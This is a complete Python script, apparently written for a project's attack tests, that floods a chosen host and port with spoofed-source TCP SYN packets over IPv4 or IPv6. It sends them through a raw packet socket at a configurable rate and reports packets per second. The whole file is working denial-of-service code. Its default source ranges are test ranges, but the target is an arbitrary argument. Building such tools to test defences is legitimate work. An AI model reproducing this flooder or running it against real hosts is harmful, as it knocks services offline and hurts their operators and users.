#!/usr/bin/env python3
"""A random-source SYN flood for the attack tests: pre-built Ethernet frames (TCP SYNs
from random addresses of SRC_NET/16 and random ports to DST_IP:DPORT, to DST_MAC) sent
on IFACE through an AF_PACKET socket for SECONDS, at RATE frames/s (0: as fast as one
core allows). Prints one JSON line: frames sent, seconds, pps. Bounded by its deadline.
An IPv6 DST_IP floods over IPv6, from random addresses of 2001:db8:ffff::/48.

  synflood.py IFACE DST_MAC DST_IP DPORT SECONDS [RATE=0] [SRC_NET=198.18]
"""
import json, os, random, socket, struct, sys, time

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF

def frame(dst_mac, src_mac, src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
    ph = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp

def frame6(dst_mac, src_mac, src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
    ph = src + dst + struct.pack("!IxxxB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, src, dst)
    return dst_mac + src_mac + b"\x86\xdd" + ip + tcp

def main():
    iface, dst_mac, dst_ip, dport, secs = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    rate = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0
    net = sys.argv[7] if len(sys.argv) > 7 else "198.18"
    a, b = (int(x) for x in net.split("."))
    dmac = bytes(int(x, 16) for x in dst_mac.split(":"))
    smac = bytes([2, 0x66, 0, 0, 0, 1])
    if ":" in dst_ip:
        dst = socket.inet_pton(socket.AF_INET6, dst_ip)
        base = socket.inet_pton(socket.AF_INET6, "2001:db8:ffff::")[:6]
        frames = [frame6(dmac, smac, base + os.urandom(10), dst, random.randrange(1024, 65535), dport)
                  for _ in range(8192)]
    else:
        dst = socket.inet_aton(dst_ip)
        frames = [frame(dmac, smac, bytes([a, b, random.randrange(256), random.randrange(1, 255)]), dst,
                        random.randrange(1024, 65535), dport) for _ in range(8192)]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    sent, t0 = 0, time.time()
    end = t0 + secs
    while time.time() < end:
        if rate and sent > (time.time() - t0) * rate:
            time.sleep(0.001)
            continue
        for f in frames[sent % 8192:sent % 8192 + 64]:
            try:
                s.send(f)
                sent += 1
            except OSError:
                pass
    dt = time.time() - t0
    print(json.dumps({"sent": sent, "seconds": round(dt, 2), "pps": round(sent / dt)}))

if __name__ == "__main__":
    main()
